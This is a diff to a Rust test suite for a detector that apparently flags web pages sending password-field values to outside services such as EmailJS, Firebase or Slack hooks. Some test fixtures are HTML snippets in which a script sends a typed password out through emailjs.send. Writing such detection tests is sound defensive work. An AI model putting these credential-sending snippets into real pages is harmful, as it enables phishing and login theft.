@@ -504,7 +504,7 @@ mod tests {
     fn services_that_take_what_pages_send_are_known() {
         let page = |script: &str| {
             found(&format!(
-                "<form action=/in><input type=password id=p></form><script>{script}</script>"
+                "<form onsubmit='s()' action=/in><input type=password id=p></form><script>{script}</script>"
             ))
         };
         assert_eq!(page("emailjs.send('a', 'b', {p: p.value})").0, 1);
@@ -513,6 +513,14 @@ mod tests {
             found("<script>emailjs.send('a', 'b', {q: q.value})</script>").0,
             0
         );
+        // A site's own form, and a service that is only spoken of.
+        for page in [
+            "<form action=/in><input type=password></form><script>c = 'https://a.firebaseio.com'</script>",
+            "<p>Post to hooks.slack.com/services</p><form><input type=password></form>",
+            "<script>d = {\"type\": \"password\"}; location.href = 'https://www.example.com/'; new XMLHttpRequest()</script>",
+        ] {
+            assert_eq!(found(page).0, 0, "{page}");
+        }
     }
 
     #[test]
